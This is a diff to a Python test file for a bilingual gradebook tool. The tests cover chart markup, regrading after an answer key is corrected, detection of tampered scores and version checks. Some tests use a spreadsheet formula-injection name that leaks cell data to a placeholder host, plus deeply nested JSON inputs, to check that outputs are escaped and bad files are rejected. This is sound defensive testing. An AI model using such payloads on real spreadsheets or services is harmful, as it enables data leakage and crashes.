@@ -8,13 +8,16 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import subprocess
 import sys
 import textwrap
+from collections import Counter
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from bs4 import BeautifulSoup
 
 import quiz_sample
 from lessons import answers, gradebook
@@ -215,7 +218,7 @@ def test_write_outputs_tables_and_chart(course):
 
 def test_chart_without_cjk_font_still_writes_svg_and_names_the_package(course, monkeypatch):
     write_class()
-    monkeypatch.setattr(gradebook, "cjk_font", lambda: None)
+    monkeypatch.setattr(gradebook, "installed_cjk_font", lambda: None)
     written, messages = gradebook.read_class(["exports"]).write(course / "out")
     assert [p.name for p in written if p.suffix in (".svg", ".png")] == ["item-analysis.svg"]
     assert "fonts-noto-cjk" in messages[0]
@@ -232,11 +235,35 @@ def test_chart_labels_follow_the_language(course):
 
 def test_chart_html_is_an_accessible_figure(course):
     write_class()
-    page = gradebook.read_class(["exports"]).chart_html()
+    page = gradebook.read_class(["exports"]).chart_html(id_prefix="gb")
     assert page.startswith('<figure class="lessons-gradebook-chart"><svg role="img"')
-    assert 'aria-labelledby="lessons-gradebook-caption"' in page
+    assert 'aria-labelledby="gb-caption"' in page and '<figcaption id="gb-caption">' in page
     assert '<span lang="zh-Hant" class="bl-zh">' in page and '<span lang="en" class="bl-en">' in page
     assert "the hardest is lesson-1/q-single (0.33)" in page
+
+
+def test_two_charts_on_one_page_share_no_id_and_style_only_themselves(course):
+    write_class()
+    results = gradebook.read_class(["exports"])
+    markup = results.chart_html("en") + results.chart_html("zh-Hant")
+    assert not re.search(r">\s*\*\s*\{", markup), "matplotlib's page-wide '*{...}' rule is scoped"
+    page = BeautifulSoup(markup, "html.parser")
+    ids = [element["id"] for element in page.select("[id]")]
+    assert len(ids) > 100, "matplotlib's SVG is full of ids (figure_1, patch_1, clip paths...)"
+    assert [i for i, n in Counter(ids).items() if n > 1] == []
+    svgs = page.select("svg")
+    assert len(svgs) == 2
+    for svg in svgs:
+        own = {element["id"] for element in svg.select("[id]")}
+        assert all(i.startswith(svg["id"] + "-") for i in own)
+        markup = str(svg)
+        references = re.findall(r"url\(#([^)]+)\)", markup) + re.findall(r'href="#([^"]+)"', markup)
+        assert set(references) <= own, "every reference points into its own chart"
+        assert page.find(id=svg["aria-labelledby"]).name == "figcaption"
+        for style in svg.find_all("style"):
+            rules = [rule.split("{")[0].strip() for rule in style.get_text().split("}") if "{" in rule]
+            assert rules and all(rule.startswith(f"#{svg['id']} ") for rule in rules), rules
+    assert "<metadata" not in str(page) and "<?xml" not in str(page)
 
 
 def test_summary_names_skipped_files_and_most_missed(course):
@@ -278,11 +305,20 @@ def malformed_cases():
             lambda: good() | {"answers": [answer("q-single", 2, 1, score=1, status="correct")]},
             "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited",
         ),
-        "changed-question.json": (
-            lambda: good()
-            | {"answers": [answer("q-single", 2, 1, score=1, status="correct", question_hash="000000000000")]},
-            "the question has changed since it was answered",
+        "tampered-no-hash.json": (
+            lambda: good() | {"answers": [{k: v for k, v in answer("q-single", 2, 1, score=1).items() if k != "question_hash"}]},
+            "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited (it has no question_hash",
         ),
+        "other-major-version.json": (
+            lambda: good() | {"course_version": "2.0.0"},
+            f"from course version '2.0.0', this is {answers.course_version()!r}: another major version of the course",
+        ),
+        "no-version.json": (
+            lambda: good() | {"course_version": "latest"},
+            f"course_version 'latest' is not a version number such as {answers.course_version()!r}",
+        ),
+        "deeply-nested.json": ("[" * 100_000, "is nested too deeply to be an answers file"),
+        "huge-number.json": ('{"format": "lessons-answers", "version": ' + "9" * 5000 + "}", "is not usable JSON"),
         "bad-time.json": (
             lambda: good() | {"answers": [answer("q-single", 0, 1, time="yesterday")]},
             "answer 1 (q-single): time 'yesterday' is not an ISO 8601 date",
@@ -315,6 +351,98 @@ def test_edited_question_with_the_same_grade_is_kept_with_a_note(course):
         "lesson-1/q-single: edited in the bank after 1 of these answers were given; "
         "the grader gives them the same score, so they are kept",
     )
+
+
+KEY_A = """\
+      - text: {zh: 甲, en: A}
+        correct: true
+      - text: {zh: 乙, en: B}
+      - text: {zh: 丙, en: C}
+    explanation: {zh: 說明一"""
+KEY_B = """\
+      - text: {zh: 甲, en: A}
+      - text: {zh: 乙, en: B}
+        correct: true
+      - text: {zh: 丙, en: C}
+    explanation: {zh: 說明一"""
+
+
+def correct_the_key_of_q_single(course):
+    """The instructor corrects q-single's answer key after the class answered: B, not A."""
+    assert textwrap.dedent(BANK).count(KEY_A) == 1
+    corrected = textwrap.dedent(BANK).replace(KEY_A, KEY_B)
+    (course / "book" / "quizzes" / "lesson-1.yml").write_text(corrected, encoding="utf-8")
+
+
+def regraded(where, recorded, now):
+    return (
+        f"exports/{where}: recorded {recorded}, regraded {now} "
+        "(the question was edited in the bank after it was answered; the regraded score counts)"
+    )
+
+
+def test_a_corrected_answer_key_regrades_and_keeps_every_file(course):
+    write_class()  # alice: B then A; bob: C; carol: B (A was right when they answered)
+    correct_the_key_of_q_single(course)
+    results = gradebook.read_class(["exports"])
+    assert results.skipped == (), "an edited question is no reason to refuse a file"
+    scores = results.scores()
+    assert scores["lesson-1/q-single"].tolist() == [0, 0, 1], "the regraded score counts"
+    assert scores["total"].tolist() == [4, 3, 4]
+    assert results.notes == (
+        # bob chose C: wrong before and after, so only counted
+        "lesson-1/q-single: edited in the bank after 1 of these answers were given; "
+        "the grader gives them the same score, so they are kept",
+        regraded("alice.json: alice, lesson-1/q-single", "0/1", "1/1"),
+        regraded("alice.json: alice, lesson-1/q-single", "1/1", "0/1"),
+        regraded("carol.json: carol, lesson-1/q-single", "0/1", "1/1"),
+    )
+    carol = results.attempts[(results.attempts["student"] == "carol") & (results.attempts["question"] == "q-single")]
+    assert carol["status"].tolist() == ["correct"]
+
+
+def test_a_score_edited_by_hand_refuses_the_file_even_after_a_key_correction(course):
+    write_class()
+    correct_the_key_of_q_single(course)
+    edited = export("dave", [("q-single", 2), ("q-tf", True)])  # answered after the correction: current hash
+    edited["answers"][0] |= {"score": 1, "status": "correct"}
+    write("dave.json", edited)
+    results = gradebook.read_class(["exports"])
+    assert list(skipped(results)) == ["exports/dave.json"]
+    assert skipped(results)["exports/dave.json"] == (
+        "answer 1 (q-single): recorded score 1/1 but the grader gives 0/1: the file was edited (the question is "
+        "unchanged since it was answered, so its score cannot differ): ask the student to export again rather "
+        "than editing the file"
+    )
+    assert "dave" not in results.students, "an edited file is skipped whole, not merged in part"
+    assert results.students == ["alice", "bob", "carol"]
+
+
+def test_an_export_of_the_same_major_version_is_read(course):
+    major = answers.major_version(answers.course_version())
+    write_class()
+    write("dave.json", export("dave", [("q-single", 0)]) | {"course_version": f"{major}.99.7"})
+    write("erin.json", export("erin", [("q-single", 0)]) | {"course_version": f"{major}.0.0"})
+    write("frank.json", export("frank", [("q-single", 0)]) | {"course_version": f"{major + 1}.0.0"})
+    results = gradebook.read_class(["exports"])
+    assert {"dave", "erin"} <= set(results.students) and "frank" not in results.students
+    assert skipped(results) == {
+        "exports/frank.json": f"from course version '{major + 1}.0.0', this is {answers.course_version()!r}: "
+        "another major version of the course, whose questions may differ: ask the student to export again "
+        "from the current book"
+    }
+
+
+def test_the_version_is_written_once():
+    import tomllib
+
+    import lessons
+
+    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
+    assert "version" not in project["project"] and "version" in project["project"]["dynamic"]
+    assert project["tool"]["setuptools"]["dynamic"]["version"] == {"attr": "lessons.__version__"}
+    assert answers.course_version() == lessons.__version__
+    assert answers.major_version(lessons.__version__) is not None
 
 
 def test_exact_copy_is_a_duplicate(course):
@@ -480,6 +608,10 @@ def malformed_csv_cases():
             lambda rows: csv_text([r | {"course_version": "0.9.0"} for r in rows]),
             "from course version '0.9.0'",
         ),
+        "deep-response.csv": (
+            lambda rows: csv_text([rows[0] | {"response": "[" * 100_000}]),
+            "line 2 (q-single): response is nested too deeply to be an answer",
+        ),
     }
 
 
@@ -509,6 +641,96 @@ def test_each_malformed_csv_is_skipped_by_name_with_reason(course, name):
     assert "dave" not in results.students
 
 
+# Invalid attempts, other banks, spreadsheets ---------------------------------------------
+
+LESSON_2 = """
+lesson: lesson-2
+title: {zh: 測試課二, en: Test lesson two}
+questions:
+  - id: q-name
+    type: text
+    section: l2-a
+    prompt: {zh: 寫出名稱, en: Give the name}
+    accept: {zh: [上海合作組織], en: [SCO]}
+    explanation: {zh: 說明五, en: Because five}
+  - id: q-deal
+    type: single
+    section: l2-a
+    prompt: {zh: 哪一個, en: Which one}
+    options:
+      - text: {zh: 第一個, en: The first}
+        correct: true
+      - text: {zh: 第二個, en: "$400 billion or $55 billion"}
+    explanation: {zh: 說明六, en: Because six}
+"""
+
+
+def lesson_2_export(student, attempts):
+    (Path("book") / "quizzes" / "lesson-2.yml").write_text(textwrap.dedent(LESSON_2), encoding="utf-8")
+    second = load_bank(Path("book/quizzes/lesson-2.yml"))
+    items = []
+    for minute, (qid, response) in enumerate(attempts):
+        result = grade(second.question(qid), response)
+        items.append({"question": qid, "question_hash": second.question(qid).content_hash, "response": response,
+                      "score": result.score, "max_score": result.max_score, "status": result.status,
+                      "time": f"2026-03-09T09:{minute:02d}:00Z"})
+    return answers.make_export("lesson-2", items, student)
+
+
+def test_invalid_attempts_are_kept_but_never_count_as_answers(course):
+    write_class()
+    # dave: right, then a malformed retry; a malformed true/false; duplicate picks on q-multi
+    write("dave.json", export("dave", [("q-single", 0), ("q-single", 9), ("q-tf", "yes"), ("q-multi", [1, 1])]))
+    results = gradebook.read_class(["exports"])
+    assert results.skipped == ()
+    assert results.attempts[results.attempts["student"] == "dave"]["status"].tolist() == [
+        "correct", "invalid", "invalid", "invalid"
+    ], "every attempt is kept in attempts"
+    scores = results.scores()
+    assert scores.loc["dave", "lesson-1/q-single"] == 1, "the malformed retry does not replace the answer"
+    assert pd.isna(scores.loc["dave", "lesson-1/q-tf"]) and pd.isna(scores.loc["dave", "lesson-1/q-multi"])
+    items = results.items().set_index("question")
+    assert items["answered"].tolist() == [4, 3, 3, 2], "a malformed response is not an answer"
+    assert items["missed"].tolist() == [2, 2, 1, 1]
+    options = results.options().set_index(["question", "option"])
+    assert options.loc[("q-multi", 2), ["chosen", "chosen_ever"]].tolist() == [1, 1], "carol only"
+    written, _ = results.write(course / "out")
+    attempts = pd.read_csv(course / "out" / "attempts.csv", encoding="utf-8-sig")
+    assert (attempts["status"] == "invalid").sum() == 3
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(course):
+    write_class()
+    alias = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    write("mallory.json", export(alias, [("q-single", 1), ("q-year", "-1991")]))
+    write("mallory-2.json", lesson_2_export(alias, [("q-name", "+1"), ("q-deal", 1)]))
+    write("@evil.json", "{broken")
+    results = gradebook.read_class(["exports"])
+    assert alias in results.students, "the name is kept as written"
+    results.write(course / "out")
+    cells = []
+    for name in ("scores.csv", "items.csv", "options.csv", "attempts.csv", "skipped.csv"):
+        with (course / "out" / name).open(encoding="utf-8-sig", newline="") as handle:
+            cells += [(name, cell) for row in csv.reader(handle) for cell in row]
+    risky = [(name, cell) for name, cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == []
+    assert ("scores.csv", "'" + alias) in cells and ("attempts.csv", "'" + alias) in cells
+    assert ("attempts.csv", "'+1") in cells and ("attempts.csv", "'-1991") in cells
+    scores = pd.read_csv(course / "out" / "scores.csv", encoding="utf-8-sig", index_col="student")
+    assert scores.loc["'" + alias, "total"] == 0 and scores.loc["alice", "total"] == 5, "numbers stay numbers"
+
+
+def test_dollar_signs_in_option_texts_stay_text_in_the_chart(course):
+    write_class()
+    write("dave.json", lesson_2_export("dave", [("q-name", "SCO"), ("q-deal", 1)]))
+    results = gradebook.read_class(["exports"])
+    assert "$400 billion or $55 billion" in results.wrong_options()["text_en"].tolist()
+    svg = BeautifulSoup(results.chart_html("en"), "html.parser").find("svg")
+    labels = [text.get_text() for text in svg.find_all("text")]
+    assert any("$400 billion or $55 billion" in label for label in labels), labels
+    assert not any("400 billion or" in label and "$" not in label for label in labels)
+
+
 # The command line ---------------------------------------------------------------------
 
 
@@ -528,6 +750,19 @@ def test_cli_writes_outputs_and_lists_skipped_files(course):
     assert (course / "results" / "scores.csv").is_file()
     assert (course / "results" / "item-analysis.svg").is_file()
     assert "Traceback" not in result.stderr
+
+
+def test_cli_skips_a_deeply_nested_file_and_reads_the_rest(course):
+    write_class()
+    write("deep.json", "[" * 100_000)
+    write("deep-object.json", '{"a":' * 100_000)
+    result = run_cli("exports", "--out", "results", "--lang", "en", cwd=course)
+    assert result.returncode == 0, result.stderr
+    assert "Read 3 files: 3 students" in result.stdout
+    assert "exports/deep.json: is nested too deeply to be an answers file" in result.stdout
+    assert "exports/deep-object.json: is nested too deeply to be an answers file" in result.stdout
+    assert "Traceback" not in result.stderr and "RecursionError" not in result.stdout + result.stderr
+    assert (course / "results" / "scores.csv").is_file()
 
 
 def test_cli_exits_2_when_nothing_valid_was_read(course):
@@ -557,7 +792,7 @@ def test_sample_class_reads_with_only_its_two_deliberate_bad_files(monkeypatch):
     monkeypatch.chdir(ROOT / "book")
     results = gradebook.read_class(["data/sample-class"])
     reasons = sorted(item.reason.split(":")[0] for item in results.skipped)
-    assert reasons == ["duplicate", "from course version '0.9.0', this is '1.0.0'"], (
+    assert reasons == ["duplicate", f"from course version '0.9.0', this is {answers.course_version()!r}"], (
         f"{results.skipped}: if a quiz bank changed, run: .venv/bin/python scripts/make_sample_class.py"
     )
     assert len(results.students) == 12 and all(s.startswith("synthetic-") for s in results.students)
